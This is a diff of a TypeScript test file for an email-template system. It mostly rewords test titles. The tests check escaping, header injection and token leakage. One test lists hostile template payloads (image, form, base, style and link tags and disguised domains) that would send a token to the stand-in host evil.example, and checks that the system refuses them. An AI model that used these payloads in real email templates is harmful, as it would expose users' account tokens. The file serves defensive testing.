@@ -27,7 +27,7 @@ test("a user's name is escaped in HTML", () => {
   assert.ok(mail.text.includes(`Hello <img src=x onerror="a()">&',`))
 })
 
-test('no name adds a paragraph to a mail or turns its text, whatever an older version has stored', () => {
+test('no name adds a paragraph to an email or reverses its text, whatever an older version stored', () => {
   const forged = 'Ada\r\n\r\nYour password\u2029expired \u202e:(\x1b[2J'
   for (const [name, template] of Object.entries(templates)) {
     const values = (value: string) => Object.fromEntries([...template.variables].map((one) => [one, value]))
@@ -42,12 +42,12 @@ test('no name adds a paragraph to a mail or turns its text, whatever an older ve
   }
 })
 
-test('a value that looks like a variable or a replacement pattern stays unchanged', () => {
+test('a value that looks like a variable or a replacement pattern is unchanged', () => {
   const { text } = render(templates.welcome, { name: "{{url}} $& $1 $'", url: 'https://posts.test' })
   assert.ok(text.startsWith("Hello {{url}} $& $1 $',"))
 })
 
-test('no line of a mail is so long that its encoding would break it, but for a link, which stays whole', () => {
+test('no line of an email is long enough for its encoding to break it, except a link, which stays intact', () => {
   const long = { token: 'x'.repeat(43), inviteToken: 'x'.repeat(43), url: 'https://posthorn.example.com' }
   const values = {
     ...long,
@@ -62,10 +62,10 @@ test('no line of a mail is so long that its encoding would break it, but for a l
   }
 })
 
-/** A link is one word; readers of mail join what the encoding breaks. */
+/** A link is one word; mail readers join lines that the encoding broke. */
 const isLink = (line: string): boolean => /^https:\/\/\S+#\S+$/.test(line)
 
-test('a mail of an installation without pages leads to none, and still says how a program does it', () => {
+test('an email from an installation without pages links to none, and still explains the API call', () => {
   for (const [name, template] of Object.entries(templates)) {
     const { text, html } = leaveOutPages(template)
     assert.doesNotMatch(text + html, /\{\{url\}\}\/(?!v1\/)|Open this page/, name)
@@ -82,12 +82,12 @@ test('a subject is one line', () => {
   assert.equal(render(template, { name: 'a\r\nBcc: b@c.test\u2028d' }).subject, 'For a Bcc: b@c.test d')
 })
 
-test('a variable without a value is refused, also when it names a property of the prototype', () => {
+test('a variable without a value is refused, even if it names a prototype property', () => {
   const template = { variables: ['toString'], subject: '', text: '{{toString}}', html: '' }
   assert.throws(() => render(template, {}), /no value was given for \{\{toString\}\}/)
 })
 
-test('the built-in templates match their variables; a mismatch is reported with every fault', () => {
+test('the built-in templates match their variables; a mismatch is reported with all errors', () => {
   checkTemplates(templates)
   const faulty = { variables: ['name', 'idle'], subject: '{{ name }}', text: '{{nmae}}', html: '{{}}' }
   assert.throws(
@@ -96,7 +96,7 @@ test('the built-in templates match their variables; a mismatch is reported with 
   )
 })
 
-test('a mail is sent after its transaction commits, and not at all after a rollback', async () => {
+test('an email is sent after its transaction commits, and never after a rollback', async () => {
   await using t = await startApp()
   const invite = { url: 'https://posts.test', inviteToken: 'abc', days: '7' }
   await assert.rejects(
@@ -175,7 +175,7 @@ test('a saved template is sent from then on, and the built-in one after a reset;
   assert.deepEqual(seen[1].changes.subject, { from: builtIn.subject, to: words.subject })
 })
 
-test('a template that cannot be sent is refused with every fault, when saved and when previewed', async () => {
+test('an invalid template is refused with all errors, when saved and when previewed', async () => {
   await using t = await startApp()
   const caller = admin((await t.as('root')).uid)
   const bad = { subject: 'x\r\nBcc: {{token}}', text: '{{nmae}}', html: ' ' }
@@ -197,7 +197,7 @@ test('a template that cannot be sent is refused with every fault, when saved and
   assert.equal((await readTemplate(t.db, 'verify-email')).isChanged, false)
 })
 
-test('a stored template that no longer fits its variables gives way to the built-in one', async () => {
+test('a stored template that no longer matches its variables is replaced by the built-in one', async () => {
   await using t = await startApp()
   const old = { name: 'goodbye', subject: 'Old', text: '{{gone}}', html: '{{gone}}', updatedAt: t.now() }
   await t.db.insertInto('mailTemplate').values(old).execute()
@@ -209,7 +209,7 @@ test('a stored template that no longer fits its variables gives way to the built
 
 const evil = 'https://evil.example'
 
-test('no template of a mail that carries a token can send it to another place, nor lead its reader there', async () => {
+test('no template with a token can send the token or its reader elsewhere', async () => {
   await using t = await startApp()
   const caller = admin((await t.as('root')).uid)
   const carriers = (await readTemplates(t.db)).filter(({ variables }) => variables.some((one) => /token$/i.test(one)))
@@ -220,24 +220,24 @@ test('no template of a mail that carries a token can send it to another place, n
   for (const { name, variables, subject, text, html } of carriers) {
     const token = `{{${variables.find((one) => /token$/i.test(one))}}}`
     const tries: Record<string, { subject?: string; text?: string; html?: string }> = {
-      'a picture with the token': { html: `${html}<img src="${evil}/${token}">` },
-      'a picture before the token that swallows it': { html: `<img src="${evil}/?${html}` },
+      'an image with the token': { html: `${html}<img src="${evil}/${token}">` },
+      'an image before the token that captures it': { html: `<img src="${evil}/?${html}` },
       'a form around the token': { html: `<form action="${evil}"><input value="${token}">${html}</form>` },
-      'a base for the links': { html: `<base href="${evil}">${html}` },
+      'a base URL for the links': { html: `<base href="${evil}">${html}` },
       'a style that reads the page': { html: `<style>@import "${evil}";</style>${html}` },
       'a link with the token': { html: `${html}<a href="${evil}/${token}">here</a>` },
       'an attribute of a plain tag': { html: `<p style="background:url(//evil.example)">x</p>${html}` },
-      'a tag from two halves': {
+      'a tag in two halves': {
         html: html.replace(/<p>(?:<code>)?\{\{\w+\}\}(?:<\/code>)?<\/p>/, (one) => `<a hr${one}ef="${evil}">`),
       },
       'a comment': { html: `<!-- ${html} -->` },
       'a written address': { html: `<p>Enter it at ${evil}</p>${html}` },
-      'an address in entities': { html: `<p>evil&#46;example</p>${html}` },
-      'an address that is broken by tags': { html: `<p>evil.<b>example</b></p>${html}` },
+      'a URL in entities': { html: `<p>evil&#46;example</p>${html}` },
+      'a URL broken up by tags': { html: `<p>evil.<b>example</b></p>${html}` },
       'a link with the token in the text': { text: `${text}\n\n${evil}/${token}` },
-      'an address in the paragraph of the token': { text: text.replace(token, `${evil}/${token}`) },
-      'other words around the token in the text': { text: text.replace(token, `Read this to whoever calls: ${token}`) },
-      'other words around the token in the HTML': { html: `${html}<p>Read this to whoever calls: ${token}</p>` },
+      'a URL in the token’s paragraph': { text: text.replace(token, `${evil}/${token}`) },
+      'other words around the token in the text': { text: text.replace(token, `Read this to any caller: ${token}`) },
+      'other words around the token in the HTML': { html: `${html}<p>Read this to any caller: ${token}</p>` },
       'a domain in the text': { text: `${text}\n\nEnter it at evil.example` },
       'a disguised domain in the text': {
         text: `${text}\n\nEnter it at evil[.]example or evil\uff0eexample or ev\u200bil.example`,
@@ -277,7 +277,7 @@ test('every built-in template can be previewed and saved unchanged', async () =>
   assert.equal(isTemplateName('toString'), false)
 })
 
-test('a queued mail shows neither its address nor its token in the database', async () => {
+test('a queued email reveals neither its address nor its token in the database', async () => {
   await using t = await startApp()
   const values = { inviteToken: 'planted-token', url: 'https://posts.test', days: '7' }
   const to = 'planted@posts.test'
